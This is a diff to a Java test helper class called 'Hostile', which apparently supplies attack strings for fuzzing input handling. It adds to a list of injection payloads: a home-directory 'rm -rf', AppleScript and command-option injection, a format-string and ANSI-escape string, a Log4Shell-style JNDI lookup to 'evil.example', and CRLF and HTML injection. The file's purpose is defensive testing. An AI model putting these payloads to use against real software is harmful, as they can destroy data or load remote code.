@@ -35,17 +35,24 @@ public final class Hostile {
           "'; rm -rf ~; '",
           "\"; display dialog \"x",
           "--help",
+          "-u critical -h int:value:1",
+          "-e",
           "#{l:x}#(touch /tmp/owned)",
-          "%s%n%x",
+          "%s%n%x\\n\\033[31m\\u001b[31m",
           "{0}${jndi:ldap://evil.example}",
           "<b onclick=x>&amp;",
           "line\r\nx: y\n\nz",
-          "x".repeat(1_500));
+          "x".repeat(10_000));
 
   private final Random random;
 
   public Hostile(long seed) {
     random = new Random(seed);
+  }
+
+  /** {@return texts each of which is one attack} */
+  public static List<String> attacks() {
+    return ATTACKS;
   }
 
   /** {@return the next text; now and then it is harmless} */
